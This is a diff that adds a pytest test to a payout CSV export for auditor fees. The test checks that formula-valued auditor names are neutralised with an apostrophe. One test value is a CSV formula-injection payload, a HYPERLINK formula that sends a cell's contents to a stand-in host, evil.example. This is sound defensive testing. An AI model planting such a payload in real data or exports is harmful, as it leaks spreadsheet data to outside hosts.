@@ -1,5 +1,7 @@
 """Fees for payout: sums per auditor over a period, the CSV files, and who may see them."""
 
+import csv
+import io
 from datetime import date
 from decimal import Decimal
 
@@ -254,3 +256,29 @@ def test_the_detail_csv_query_count_does_not_grow_with_the_entries(
         response = client.get(url, {**MARCH, "detail": "1"})
 
     assert len(response.content.decode("utf-8-sig").splitlines()) == 22
+
+
+FORMULA = "=1+1"
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
+
+
+@pytest.mark.parametrize("detail", [False, True])
+def test_a_name_that_is_a_formula_goes_out_inert_and_amounts_stay_numbers(
+    client, staff, two_auditors, detail
+):
+    # Auditors choose their own names; a formula in one must not run in the payout sheet.
+    anna, bertil = two_auditors
+    anna.full_name = HYPERLINK
+    anna.save(update_fields=["full_name"])
+    bertil.full_name = FORMULA
+    bertil.save(update_fields=["full_name"])
+    client.force_login(staff)
+
+    params = {**MARCH, "detail": "1"} if detail else MARCH
+    response = client.get(reverse("audits:fees_payout_csv"), params)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    names = {row[0] for row in rows[1:]}
+    assert names == {"'" + HYPERLINK, "'" + FORMULA}
+    hours = rows[1][5] if detail else rows[1][4]
+    assert hours[0].isdigit()
